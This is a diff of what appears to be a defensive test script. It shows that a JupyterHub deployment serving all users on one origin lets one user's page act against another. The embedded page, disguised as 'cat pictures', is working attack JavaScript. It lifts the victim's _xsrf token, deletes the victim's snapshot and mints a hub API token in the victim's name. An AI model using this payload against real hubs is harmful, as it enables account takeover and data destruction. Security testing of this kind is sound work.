@@ -5,8 +5,8 @@ Chromium), against a real JupyterHub, proxy, workstations service and the simula
 Users are root in their workstations, so a user's server serves whatever its user wants under
 /user/NAME/: here Mallory's is a page server of her own, put at her route in the proxy (what
 her replaced server would look like to a browser). Her page reads the victim's rescue page for
-its `_xsrf` (in a frame) and posts the deletion of the victim's snapshot, then reads the hub's
-token page and asks the hub's API for a token in the victim's name.
+its `_xsrf` and posts the deletion of the victim's snapshot, then reads the hub's token page and
+asks the hub's API for a token in the victim's name.
 
 - On one origin for all (no `subdomain_host`: what the opt-out `allow_shared_origin` allows),
   the page is the hub's own origin: the attack succeeds. This is the defect, shown.
@@ -41,13 +41,15 @@ CHROMIUM = "/usr/bin/chromium"
 EXTRA = """
 c.KubeVirtSpawner.workspace_disk_size = ""
 c.KubeVirtSpawner.start_timeout = 60
+c.KubeVirtSpawner.clone_stall_timeout = 30
 c.KubeVirtSpawner.http_timeout = 40
 """
 
-# Mallory's page. It reports what it managed in #result. It reads pages in frames: a fetch() of
-# a page is not logged in (JupyterHub 4.1+ takes a login cookie on a GET only when the browser
-# navigates: jupyterhub/_xsrf_utils.py), a frame is a navigation, and on the same origin its
-# document is the page's to read.
+# Mallory's page. It reports what it managed in #result. It reads the rescue page in a frame: a
+# service takes its login cookie on a GET only when the browser navigates (HubOAuth with
+# jupyterhub/_xsrf_utils.py), a frame is a navigation, and on the same origin its document is
+# the page's to read. The hub's own pages may not be framed at all (frame-ancestors 'none',
+# jupyterhub/handlers/base.py), but their handlers take the cookie on a fetch.
 EVIL = """<!doctype html><title>cat pictures</title><pre id="result">running</pre><script>
 const target = TARGET;
 function xsrf(text) {
@@ -74,7 +76,7 @@ async function attack() {
     out.delete = (await fetch(target.page, {method: "POST", body, credentials: "include"})).status;
   } catch (error) { out.page_error = String(error); }
   try {
-    const token = xsrf(await framed(target.hub + "/hub/token"));
+    const token = xsrf(await (await fetch(target.hub + "/hub/token", {credentials: "include"})).text());
     out.read_token_page = token !== "";
     out.token = (await fetch(target.hub + "/hub/api/users/" + target.victim + "/tokens", {
       method: "POST", credentials: "include", body: JSON.stringify({note: "mallory"}),
